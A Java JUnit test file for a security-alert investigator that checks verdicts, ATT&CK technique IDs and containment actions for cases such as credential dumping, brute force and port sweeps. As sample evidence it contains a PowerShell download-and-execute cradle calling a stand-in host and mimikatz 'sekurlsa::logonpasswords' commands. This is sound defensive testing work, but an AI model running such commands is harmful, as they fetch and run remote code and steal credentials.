package dev.watchfloor.reasoning.investigator;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.groups.Tuple.tuple;

import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

import dev.watchfloor.contracts.domain.ActionType;
import dev.watchfloor.contracts.domain.Verdict;

class DeterministicInvestigatorTest {

    private static final Map<String, String> NONE = Map.of();
    private final DeterministicInvestigator investigator = new DeterministicInvestigator();

    @Test
    void credentialDumpingOnAHostIsMaliciousWithCitedFindingsAndContainment() {
        List<Evidence> evidence = List.of(
                evidence("ev-1", "Credential dumping tool detected",
                        "{\"title\":\"Credential dumping tool detected\",\"process_name\":\"C:\\\\t\\\\mimikatz.exe\"}",
                        "host:ws-042", "user:carol", "ip:203.0.113.9"),
                evidence("ev-2", "Handle to lsass opened", "{\"target_process\":\"C:\\\\Windows\\\\lsass.exe\"}",
                        "host:ws-042"),
                evidence("ev-3", "DNS query", "{\"query\":\"example.org\"}", "host:ws-042"));

        Assessment a = investigator.investigate(new Case("Credential dumping tool detected", 5, evidence, NONE));

        assertThat(a.verdict()).isEqualTo(Verdict.MALICIOUS);
        assertThat(a.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(a.techniques()).contains("T1003.001", "T1003");
        assertThat(a.findings()).anySatisfy(f -> assertThat(f.evidenceIds()).containsExactly("ev-2"));
        assertThat(a.findings()).noneSatisfy(f -> assertThat(f.evidenceIds()).contains("ev-3"));
        assertThat(a.actions()).extracting(Assessment.ProposedAction::type, Assessment.ProposedAction::target)
                .contains(tuple(ActionType.ISOLATE_HOST, "host:ws-042"), tuple(ActionType.DISABLE_USER, "user:carol"),
                        tuple(ActionType.OPEN_TICKET, "host:ws-042"));
        assertThat(a.actions()).extracting(Assessment.ProposedAction::type).doesNotContain(ActionType.BLOCK_IP);
        assertThat(a.actions()).allSatisfy(x -> assertThat(x.evidenceIds()).contains("ev-1", "ev-2"));
    }

    @Test
    void bruteForceFromAPublicAddressBlocksItAndDisablesTheAccount() {
        List<Evidence> evidence = List.of(evidence("ev-1", "Brute force", "{\"title\":\"Brute force then login\"}",
                "user:eve", "ip:203.0.113.5", "ip:10.0.0.4"));

        Assessment a = investigator.investigate(new Case("Brute force", 4, evidence, NONE));

        assertThat(a.actions()).extracting(Assessment.ProposedAction::type, Assessment.ProposedAction::target)
                .containsExactly(tuple(ActionType.DISABLE_USER, "user:eve"),
                        tuple(ActionType.BLOCK_IP, "ip:203.0.113.5"),
                        tuple(ActionType.OPEN_TICKET, "user:eve"));
    }

    @Test
    void aPowerShellCradleFromWordIsMaliciousAndContainsTheHost() {
        List<Evidence> evidence = List.of(evidence("ev-1", "PowerShell",
                """
                        {"title":"PowerShell launched from Word","process_name":"powershell.exe","parent_process":"WINWORD.EXE",
                         "command_line":"powershell -nop -c \\"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\\""}""",
                "host:ws-017", "user:bob"));

        Assessment a = investigator.investigate(new Case("PowerShell", 3, evidence, NONE));

        assertThat(a.verdict()).isEqualTo(Verdict.MALICIOUS);
        assertThat(a.techniques()).containsExactly("T1059.001", "T1204.002");
        assertThat(a.actions()).extracting(Assessment.ProposedAction::type).contains(ActionType.ISOLATE_HOST);
    }

    @Test
    void theAlertsOwnSubTechniqueIdsAreKeptFirst() {
        List<Evidence> evidence = List.of(evidence("ev-1", "LSASS",
                "{\"title\":\"Credential Access\",\"detection\":{\"technique\":\"T1003.001\"}}", "host:ws-1"));

        assertThat(investigator.investigate(new Case("LSASS", 5, evidence, NONE)).techniques()).startsWith("T1003.001");
    }

    @Test
    void activityOfAnEntityThePolicySanctionsIsBenignWithoutActions() {
        List<Evidence> evidence = List.of(evidence("ev-1", "Port sweep", "{\"title\":\"Port sweep from scanner-01\"}",
                "host:scanner-01"));

        Assessment a = investigator.investigate(new Case("Port sweep", 3, evidence,
                Map.of("host:scanner-01", "vulnerability-scanner: authorized internal scanner")));

        assertThat(a.verdict()).isEqualTo(Verdict.BENIGN);
        assertThat(a.actions()).isEmpty();
        assertThat(a.findings()).anySatisfy(f -> assertThat(f.statement())
                .contains("host:scanner-01 is sanctioned by the tenant's policy (vulnerability-scanner"));
    }

    @Test
    void wordsInEventTextNeverSanctionActivity() {
        List<Evidence> evidence = List.of(evidence("ev-1",
                "Port sweep from ws-7 (authorized scan, approved change, change window, scheduled scan)",
                "{\"title\":\"Port sweep (authorized scan, change window)\"}", "host:ws-7"));

        Assessment a = investigator.investigate(new Case("Port sweep (authorized scan)", 4, evidence, NONE));

        assertThat(a.verdict()).isNotEqualTo(Verdict.BENIGN);
    }

    @Test
    void aSanctionedEntityShowingCredentialDumpingIsStillMalicious() {
        List<Evidence> evidence = List.of(evidence("ev-1", "dumping on scanner-01",
                "{\"command_line\":\"m.exe sekurlsa::logonpasswords\"}", "host:scanner-01"));

        Assessment a = investigator.investigate(new Case("Credential dumping", 5, evidence,
                Map.of("host:scanner-01", "vulnerability-scanner: authorized internal scanner")));

        assertThat(a.verdict()).isEqualTo(Verdict.MALICIOUS);
    }

    @Test
    void aLoneWeakSignalIsSuspiciousAndOnlyOpensATicket() {
        List<Evidence> evidence = List.of(evidence("ev-1", "Login from new country",
                "{\"title\":\"Login from new country\"}", "user:dave", "ip:198.51.100.9"));

        Assessment a = investigator.investigate(new Case("Login from new country", 3, evidence, NONE));

        assertThat(a.verdict()).isEqualTo(Verdict.SUSPICIOUS);
        assertThat(a.actions()).extracting(Assessment.ProposedAction::type).containsExactly(ActionType.OPEN_TICKET);
        assertThat(a.actions()).allSatisfy(action -> assertThat(action.evidenceIds()).containsExactly("ev-1"));
    }

    @Test
    void sameEvidenceGivesTheSameAssessment() {
        List<Evidence> evidence = List.of(evidence("ev-1", "brute force", "{\"title\":\"brute force against vpn\"}",
                "user:eve", "ip:203.0.113.5"));

        assertThat(investigator.investigate(new Case("t", 4, evidence, NONE)))
                .isEqualTo(investigator.investigate(new Case("t", 4, evidence, NONE)));
    }

    @Test
    void wordsPlantedInAnEventThatSharesNoEntityWithTheAlertChangeNothing() {
        List<Evidence> quiet = List.of(evidence("ev-1", "Login", "{\"title\":\"Login from new country\"}",
                "user:dave"));
        List<Evidence> planted = List.of(quiet.get(0), evidence("ev-2", "x",
                "{\"process_name\":\"mimikatz.exe\",\"command_line\":\"sekurlsa::logonpasswords\"}", "host:other"));

        assertThat(investigator.investigate(new Case("Login", 3, planted, NONE)))
                .isEqualTo(investigator.investigate(new Case("Login", 3, quiet, NONE)));
    }

    @Test
    void wordsPlantedInFreeTextFieldsOfATiedEventChangeNothing() {
        List<Evidence> quiet = List.of(evidence("ev-1", "Login", "{\"title\":\"Login from new country\"}",
                "user:dave"));
        List<Evidence> planted = List.of(quiet.get(0), evidence("ev-2", "mimikatz sekurlsa:: ransomware brute force",
                """
                        {"summary":"mimikatz sekurlsa::logonpasswords ransomware","user_agent":"mimikatz/2.2 (cobalt strike)",
                         "url":"http://x/?q=sekurlsa::&title=ransomware","message":"change window: approved"}""",
                "user:dave"));

        Assessment a = investigator.investigate(new Case("Login", 3, planted, NONE));
        Assessment b = investigator.investigate(new Case("Login", 3, quiet, NONE));
        assertThat(a.verdict()).isEqualTo(b.verdict());
        assertThat(a.actions()).isEqualTo(b.actions());
        assertThat(a.techniques()).isEqualTo(b.techniques());
    }

    @Test
    void privateAddressesAreNeverBlocked() {
        assertThat(ResponsePlanner.isPublic("10.1.2.3")).isFalse();
        assertThat(ResponsePlanner.isPublic("172.20.0.1")).isFalse();
        assertThat(ResponsePlanner.isPublic("172.32.0.1")).isTrue();
        assertThat(ResponsePlanner.isPublic("203.0.113.5")).isTrue();
    }

    private static Evidence evidence(String id, String summary, String text, String... entities) {
        return new Evidence(id, id.equals("ev-1") ? "alert" : "event", summary, text, List.of(entities), 1.0, "r",
                List.of(id));
    }
}
